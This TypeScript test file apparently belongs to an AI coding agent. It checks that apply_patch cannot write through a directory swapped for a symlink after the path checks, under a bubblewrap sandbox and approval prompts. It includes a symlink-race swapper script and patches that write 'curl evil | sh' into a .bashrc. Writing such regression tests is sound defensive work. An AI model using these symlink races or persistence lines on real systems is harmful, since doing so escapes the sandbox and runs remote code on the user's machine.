/**
 * apply_patch against a workspace directory swapped for a symlink between the checks and the
 * write (security issue row 7). The checks resolve the paths once; the write must not follow a
 * symlink out of the writable roots when it happens. Three ways in, through real turns under
 * real bubblewrap, each asserting on the host's disk: the swap made while the user is asked
 * (untrusted, deterministic), a session approval reused after the swap, a patch approved outside
 * the writable roots (written in-process) whose workspace path was swapped while the user was
 * asked, and a sandboxed background command swapping a directory and a symlink in a loop while 80
 * patches are applied (never).
 */
import { existsSync } from 'node:fs';
import { mkdir, readdir, rename, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { cleanBackgroundTerminals } from '../../src/tools/shell/services.js';
import { addFilePatch, CONFINED_TMP_TOML, execCall, patchCall, requireBwrap, SafetyHarness, unfinishedItems, WORKSPACE_WRITE } from '../safety/harness.js';

/** The swapper the background command runs: `d` flips between a directory and a symlink to argv[2]. */
const SWAPPER = `'use strict';
const fs = require('node:fs');
const outside = process.argv[2];
const until = Date.now() + Number(process.argv[3]);
const quiet = (f) => { try { f(); } catch {} };
let flips = 0;
while (Date.now() < until) {
  quiet(() => fs.renameSync('d', 'd.dir'));
  quiet(() => fs.symlinkSync(outside, 'd'));
  quiet(() => fs.unlinkSync('d'));
  quiet(() => fs.renameSync('d.dir', 'd'));
  quiet(() => fs.rmSync('d.dir', { recursive: true, force: true }));
  quiet(() => fs.mkdirSync('d'));
  flips += 1;
}
console.log('flips', flips);
`;

let h: SafetyHarness;

beforeAll(async () => {
  await requireBwrap();
  h = await SafetyHarness.start({ approvalPolicy: 'never', sandbox: 'workspace-write', extraToml: CONFINED_TMP_TOML });
});
afterEach(() => {
  h.engine.approvals.beforeAnswer = null;
});
afterAll(async () => {
  await h?.close();
});

/** A workspace with a directory `d`, and an empty directory outside every writable root. */
async function workspaceWithDir(): Promise<{ cwd: string; outside: string }> {
  const cwd = await h.newWorkspace();
  await mkdir(join(cwd, 'd'));
  const outside = join(h.outside, `home-${h.nextId()}`);
  await mkdir(outside);
  return { cwd, outside };
}

/** Replaces `cwd/d` by a symlink to `outside` (the old directory is kept aside). */
async function swapToSymlink(cwd: string, outside: string): Promise<void> {
  await rename(join(cwd, 'd'), join(cwd, `d-${h.nextId()}`));
  await symlink(outside, join(cwd, 'd'));
}

describe('a directory swapped for a symlink after apply_patch checked its paths', () => {
  it('does not let an approved patch write through the swap (untrusted, swap while the user is asked)', async () => {
    const { cwd, outside } = await workspaceWithDir();
    const thread = await h.startThread({ approvalPolicy: 'untrusted', sandbox: WORKSPACE_WRITE, cwd });
    h.engine.approvals.beforeAnswer = async (kind) => {
      if (kind === 'patch') await swapToSymlink(cwd, outside);
    };
    const result = await h.runTurn(thread, [patchCall(addFilePatch('d/.bashrc', 'curl evil | sh'))], ['approved']);
    expect(result.asked.map((a) => a.kind)).toEqual(['patch']);
    // The user saw a patch inside the workspace, so no "outside" warning was shown.
    expect(result.asked[0]?.request.reason).toBeNull();
    expect(await readdir(outside)).toEqual([]);
    expect(result.toldModel[0]).toMatch(/^Exit code: 1\n[\s\S]*Failed to write file .*d\/\.bashrc: Read-only file system$/);
    expect(unfinishedItems(result.events)).toEqual([]);
  });

  it('asks again, naming where the path now leads, instead of reusing a session approval', async () => {
    const { cwd, outside } = await workspaceWithDir();
    const thread = await h.startThread({ approvalPolicy: 'untrusted', sandbox: WORKSPACE_WRITE, cwd });
    const first = await h.runTurn(thread, [patchCall(addFilePatch('d/.bashrc', 'alias ll="ls -l"'))], ['approved_for_session']);
    expect(first.toldModel[0]).toMatch(/^Exit code: 0\n/);
    await swapToSymlink(cwd, outside);
    const second = await h.runTurn(thread, [patchCall(addFilePatch('d/.bashrc', 'curl evil | sh'))], ['denied']);
    expect(second.asked).toHaveLength(1);
    expect(second.asked[0]?.request.reason).toBe(`writes outside the writable roots: ${join(cwd, 'd/.bashrc')} (resolves to ${join(outside, '.bashrc')})`);
    expect(second.toldModel[0]).toBe('patch rejected by user');
    expect(await readdir(outside)).toEqual([]);
  });

  it('writes nothing when a patch approved outside the writable roots finds a path leading elsewhere than when asked', async () => {
    const { cwd, outside } = await workspaceWithDir();
    const approvedOutside = join(h.outside, `approved-${h.nextId()}.txt`);
    const thread = await h.startThread({ approvalPolicy: 'on-request', sandbox: WORKSPACE_WRITE, cwd });
    h.engine.approvals.beforeAnswer = async (kind) => {
      if (kind === 'patch') await swapToSymlink(cwd, outside);
    };
    const text = ['*** Begin Patch', `*** Add File: ${approvedOutside}`, '+approved', '*** Add File: d/.bashrc', '+curl evil | sh', '*** End Patch'].join('\n');
    const result = await h.runTurn(thread, [patchCall(text)], ['approved']);
    expect(result.asked[0]?.request.reason).toBe(`writes outside the writable roots: ${approvedOutside}`);
    expect(result.toldModel[0]).toMatch(/^Exit code: 1\n[\s\S]*d\/\.bashrc changed on disk after the patch was checked \(it now leads to .*\/\.bashrc\); no files were modified/);
    expect(await readdir(outside)).toEqual([]);
    expect(existsSync(approvedOutside)).toBe(false);
  });

  it('writes nothing outside while a sandboxed background command flips a directory and a symlink (80 patches, never)', async () => {
    const { cwd, outside } = await workspaceWithDir();
    await writeFile(join(cwd, 'swap.cjs'), SWAPPER);
    const thread = await h.startThread({ approvalPolicy: 'never', sandbox: WORKSPACE_WRITE, cwd });
    const patches = Array.from({ length: 80 }, (_, i) => patchCall(addFilePatch(`d/f${i}.txt`, `payload ${i}`)));
    try {
      const swapper = execCall(`exec ${process.execPath} swap.cjs ${outside} 60000`, { yield_time_ms: 250 });
      const result = await h.runTurn(thread, [swapper, ...patches]);
      expect(result.toldModel[0]).toMatch(/Process running with session ID \d+/);
      const outcomes = result.toldModel.slice(1);
      expect(outcomes).toHaveLength(80);
      // Each patch is either written inside, refused at the check, or refused by the sandbox at write time.
      for (const told of outcomes) {
        expect(told).toMatch(/^Exit code: 0\n|patch rejected: writing outside|Failed to (write file|create parent directories)/);
      }
      expect(await readdir(outside)).toEqual([]);
    } finally {
      await cleanBackgroundTerminals(thread);
    }
    expect(await readdir(outside)).toEqual([]);
  }, 60_000);
});
